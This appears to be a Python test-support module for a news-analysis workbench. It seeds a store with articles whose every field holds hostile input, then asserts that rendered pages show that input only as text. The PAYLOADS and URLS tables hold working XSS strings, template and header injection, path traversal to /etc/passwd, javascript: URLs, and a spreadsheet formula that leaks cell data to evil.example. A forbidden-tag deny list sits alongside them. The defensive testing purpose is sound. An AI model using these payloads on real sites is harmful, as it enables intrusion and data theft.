"""Hostile articles, and what must hold of every page that shows them: for all pages' tests.

``fill(store)`` keeps two articles for each of `PAYLOADS`, coded by hand (no model is loaded) so
that the payload stands in every text that a record has: title, outlet, owner, ties, address,
names, reasons, flags, evidence of the page, judgements. The two tell one incident and differ.
`check_page` asserts that an HTML answer has nothing in it but what the workbench's own templates
put there; `check_shown` that the words are there, as words. For a browser:
``install_alarm(tab)`` before the first page, ``check_alarm(tab)`` after each.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import msgspec
import pytest

from dateline.adding import PageInfo
from dateline.ingest.article import Given, make_article
from dateline.merge.incidents import incident_of
from dateline.merge.updating import told_by
from dateline.records.article import Article, Source, Tie
from dateline.records.claim import (
    Attribution,
    Contradiction,
    FactualityJudgement,
    LoadedWord,
    Speaker,
)
from dateline.records.coded import Candidate, Coded, Reason, Via
from dateline.records.decision import Judgement
from dateline.records.entity import Actor, CountRange, EventDate, Place
from dateline.records.event import (
    CodedArticle,
    Codes,
    CodingRun,
    CountPhrase,
    Failure,
    Participant,
    Phrase,
    Relation,
    Report,
    TypeCandidate,
    Unreported,
)
from dateline.records.page import Evidence, PageMap
from dateline.records.text import Quote
from dateline.store import Store, open_store

PAYLOADS: dict[str, str] = {
    "script": "<script>window.alarm('script')</script>",
    "ends": "</textarea></title></style></script><script>window.alarm('ends')</script>",
    "image": "<img src=x onerror=window.alarm('image')>",
    "svg": "<svg/onload=window.alarm('svg')><set onbegin=window.alarm('set')>",
    "double": "\" onmouseover=\"window.alarm('double')\" autofocus onfocus=\"window.alarm('f')",
    "single": "' onmouseover='window.alarm(1)' autofocus onfocus='window.alarm(2)' x='",
    "bare": "x onmouseover=window.alarm(3) style=position:fixed;inset:0 y=`",
    "entities": "&lt;script&gt;window.alarm(4)&lt;/script&gt; &#60;b&#62; &amp;lt;i&amp;gt;",
    "template": "{{ 7 * 191 }} {% raw %} ${7*191} #{7*191} {{ config }}",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/a.css>",
    "base": "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "frame": "<iframe srcdoc=\"<script>parent.alarm('frame')</script>\"></iframe><object data=x>",
    "form": "<form action=//evil.example><input name=csrf><button>Log in again</button>",
    "htmx": '<div hx-get="//evil.example" hx-trigger="load" hx-on::load="window.alarm(5)">',
    "comment": "<!-- <!--> --!> ]]> <![CDATA[ <?php",
    "controls": "nul\x00 bell\x07 escape\x1b[31m delete\x7f c1\x9b and back\x08",
    "bidi": "exe.\u202egnp.tnemucod\u202c \u2067right\u2069 \u2066to\u2069 \u202dleft",
    "long": "W" * 4000,
    "marks": "Z" + "\u0334\u0321\u035d" * 60 + " and on",
    "blanks": "\u200b\u00a0\u2028\u2029\ufeff.",
    "lines": "one\r\nSet-Cookie: session=x\r\n\r\n<b>two</b>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "path": "../../etc/passwd?a=b&c=d#e %2e%2e%2f ;/\\",
    "json": '"}],"x":[{"</script>":"\\u003cb\\u003e',
}  # fmt: skip
"""Words that somebody may hope to become markup, script, layout or a formula."""

URLS: dict[str, str] = {
    "javascript": "javascript:window.alarm('url')",
    "capitals": "JaVaScRiPt://news.example/%0awindow.alarm('url')",
    "blank": " javascript:window.alarm('url')",
    "tab": "java\tscript:window.alarm('url')",
    "data": "data:text/html,<script>window.alarm('url')</script>",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "relative": "//evil.example/page",
    "path": "/people/admin/remove",
    "quote": "https://news.example/\" onmouseover=\"window.alarm('url')",
    "bracket": "http://[::1",
    "bidi": "https://news.example/\u202egnp.exe",
    "control": "https://news.example/\x00\x1b",
    "user": "https://bank.example:x@evil.example/",
    "long": "https://news.example/" + "a" * 4000,
}
"""Addresses of articles; only http and https may be linked, and then never with our referrer."""

RUN = CodingRun("0.1.0", "hand@1", "hand@1", "book", "places", "actors", "settings")
DAY, NOW = date(2024, 3, 4), datetime(2024, 3, 5, 12, tzinfo=UTC)


@dataclass(frozen=True)
class Hostile:
    """What `fill` has kept, by the payload's name (of `URLS`: ``url:`` and its name)."""

    articles: dict[str, str]
    """The hash of the first of the two articles."""
    incidents: dict[str, str]
    """The id of the incident that both tell."""
    reports: dict[str, str]
    """The key of the first article's report."""


@pytest.fixture(scope="session")
def hostile_kept(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Hostile]:
    """A store of hostile articles, and what is in it. Copy the file before writing to it."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.sqlite"
    with open_store(path) as store:
        return path, fill(store)


def fill(store: Store) -> Hostile:
    """Keep all hostile articles, each two of them as one incident."""
    cases = [(name, payload, "https://news.example/a") for name, payload in PAYLOADS.items()]
    cases += [(f"url:{name}", "plain words", url) for name, url in URLS.items()]
    kept = Hostile({}, {}, {})
    with store.batch():
        run = store.open_run(RUN)
        for number, (name, payload, url) in enumerate(cases):
            halves = [_article(payload, url, number, half) for half in (0, 1)]
            coded = [_coded(one, payload, half) for half, one in enumerate(halves)]
            for one in coded:
                store.add_article(one.article, page_info=_page_info(payload))
                store.save_coded(run, one)
            told = [report for one in coded for report in told_by(one).values()]
            incident = incident_of(told, id=f"i{number:012x}")
            store.save_incidents(run, [incident])
            one, other = incident.reports
            store.add_judgement(
                Judgement.of(one, other, "same", reviewer=payload, at=NOW, reason=payload)
            )
            kept.articles[name], kept.incidents[name] = halves[0].hash, incident.id
            kept.reports[name] = coded[0].reports[0].key
    return kept


# -- one article -------------------------------------------------------------------------------


def _article(payload: str, url: str, number: int, half: int) -> Article:
    text = (
        f"{payload}\n\nBy {payload}\n\n"
        f"{payload} attacked {payload} in {payload} on Monday, killing {3 + half} people, "
        f"{payload} said. Story {number}, half {half}.\n\n{payload}\n"
    )
    given = Given(source=payload, title=payload, url=url, published=DAY, language="en")
    article = make_article(text, given, max_chars=10**6)
    ties = (Tie("mouthpiece_of", payload, payload),)
    return replace(
        article, source=Source(payload, "state", owner=payload, country="IRQ", ties=ties)
    )


def _coded(article: Article, payload: str, half: int) -> CodedArticle:
    title = Quote.of(article.title or "", 0, len(article.title or ""), "title")
    return CodedArticle(
        article,
        RUN,
        (_report(article, payload, half),),
        relations=(_relation(article, payload),),
        contradictions=(Contradiction("count", payload, (_words(article, payload, 0), title)),),
        failures=(Failure(payload, payload),),
        unreported=(Unreported(_words(article, payload, 0), payload, payload, payload),),
    )


def _report(article: Article, payload: str, half: int) -> Report:
    trigger = _words(article, "attacked")
    count = _words(article, f"{3 + half} people")
    actor, target, where, speaker = (_words(article, payload, n) for n in (2, 3, 4, 5))
    sentence = Quote.of(article.text, actor.start, article.text.index("said.") + 5)
    told = Attribution(Speaker(speaker, payload, payload), _words(article, "said"), "claims")
    return Report(
        key=f"{article.hash}:{trigger.start}-{trigger.end}",
        event_type=Coded("attack_on_civilians", by=payload),
        score=0.9,
        codes=Codes("ASSAULT", (payload,), (payload,), -9.0, "180",
                    "Violence against civilians", "Attack", 4),
        trigger=trigger,
        sentence=sentence,
        actors=(_somebody(actor, payload),),
        targets=(_somebody(target, payload),),
        place=Coded(
            Place(payload, "IRQ", payload, payload, 33.3 + half, 44.4), evidence=(where,),
            candidates=(Candidate(Place(payload, None), payload),), via=Via.LEAD, via_quote=where,
        ),
        date=Coded(EventDate(DAY, DAY, "day", payload), evidence=(_words(article, "Monday"),)),
        counts=(CountPhrase("killed", CountRange(3 + half, 3 + half), count),),
        weapon=speaker,
        attribution=(told,),
        factuality=FactualityJudgement("alleged", (_words(article, "said"),), why=payload),
        flags=("partisan_source", payload),
        flag_reasons=(payload, payload),
        loaded=(LoadedWord(speaker, "against"),),
        rule=payload,
        type_candidates=(TypeCandidate("riot", 0.2, payload, payload),),
    )  # fmt: skip


def _relation(article: Article, payload: str) -> Relation:
    one, other = (_words(article, payload, n) for n in (2, 3))
    return Relation(
        _somebody(one, payload), "backed_by", _somebody(other, payload), other,
        (Attribution(None, _words(article, "said"), "alleges"),),
    )  # fmt: skip


def _somebody(quote: Quote, payload: str) -> Participant:
    phrase = Phrase(quote, 0, via=Via.COREFERENCE, via_quote=quote, referent=quote, how=payload)
    actor = Actor(payload, payload, "IRQ", ("REB", payload), payload, (Tie("part_of", payload),))
    known: Coded[Actor] = Coded(actor, evidence=(quote,), by=payload)
    return Participant(phrase, known if quote.start % 2 else Coded.missing(Reason.UNRESOLVED), True)


def _words(article: Article, words: str, which: int = 0) -> Quote:
    """The ``which``-th time that the article says ``words``."""
    start = -1
    for _ in range(which + 1):
        start = article.text.index(words, start + 1)
    return Quote(start, start + len(words), words)


def _page_info(payload: str) -> bytes:
    found = Evidence("published", payload, payload, payload)
    return msgspec.json.encode(
        PageInfo("page", "javascript:alert(1)", NOW, (found,), (payload,), payload, PageMap())
    )


# -- what must hold ----------------------------------------------------------------------------

_FORBIDDEN = frozenset(
    "iframe frame object embed applet base style img image video audio portal marquee set animate "
    "foreignobject math template noscript".split()
)
_ADDRESSES = frozenset("href src action formaction poster xlink:href srcset ping data".split())
_OURS = re.compile(r"(?:/(?!/)|#|\?)[^\\\x00-\x20]*|")
_BIDI = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def check_page(html: str) -> None:
    """Nothing in a page that may run, load, frame, lead astray or turn the words around."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    odd = sorted({sign for sign in html if _is_odd(sign)})
    assert odd == [], f"signs that must not be sent as they are: {odd}"
    assert reader.problems == [], reader.problems[:5]
    assert "1337" not in reader.words, "a template in the data was run"


def check_shown(html: str, payload: str) -> None:
    """The words of a payload stand on the page, as words (signs that must not be shown aside)."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    wanted, there = _plain(payload)[:60], _plain(reader.words)
    assert wanted in there, f"{payload[:60]!r} is not on the page"


def _plain(text: str) -> str:
    kept = "".join(sign for sign in text if not (_is_odd(sign) or sign == "\ufffd"))
    return "".join(kept.split())


def _is_odd(sign: str) -> bool:
    if sign in "\n\t\r":
        return False
    return unicodedata.category(sign) == "Cc" or sign in _BIDI


class _Reader(HTMLParser):
    """Looks at each element of a page, and gathers its words."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._words: list[str] = []

    @property
    def words(self) -> str:
        return "".join(self._words)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = {name: value or "" for name, value in attrs}
        for problem in _problems(tag, named):
            self.problems.append(f"<{tag}>: {problem}")
        self._words += [named[name] for name in ("title", "value", "aria-label") if name in named]

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data[:40]!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"instruction {data[:40]!r}")

    def handle_data(self, data: str) -> None:
        self._words.append(data)


def _problems(tag: str, named: dict[str, str]) -> Iterator[str]:
    if tag in _FORBIDDEN:
        yield "is no element of ours"
    if tag == "script" and not named.get("src", "").startswith("/static/"):
        yield "a script that is none of our files"
    if tag == "meta" and "http-equiv" in named:
        yield "an instruction in a meta element"
    for name, value in named.items():
        if name.startswith(("on", "hx-on", "data-hx-on")) or name in {"style", "srcdoc"}:
            yield f"the attribute {name}"
        if name.startswith("hx-") and "evil" in value:
            yield f"{name}={value[:40]!r}"
        if name in _ADDRESSES:
            yield from _astray(tag, name, value, named)


def _astray(tag: str, name: str, value: str, named: dict[str, str]) -> Iterator[str]:
    if _OURS.fullmatch(value) or (tag == "link" and value.startswith("data:image/")):
        return
    if tag == "a" and name == "href" and re.match(r"https?://[^/\s\\@]", value):
        if not {"noopener", "noreferrer"} <= set(named.get("rel", "").split()):
            yield f"a link elsewhere without noopener and noreferrer: {value[:60]!r}"
        return
    yield f"{name} leads to {value[:60]!r}"


# -- in a browser ------------------------------------------------------------------------------


def install_alarm(tab: Any) -> None:
    """From now on `check_alarm` knows whether a payload's script ran in the tab."""
    tab.add_init_script("window.alarms = []; window.alarm = (what) => window.alarms.push(what);")
    tab.on("dialog", lambda dialog: tab.problems.append(f"dialog {dialog.message}"))


def check_alarm(tab: Any) -> None:
    """No script of a payload ran."""
    assert tab.evaluate("window.alarms") == []
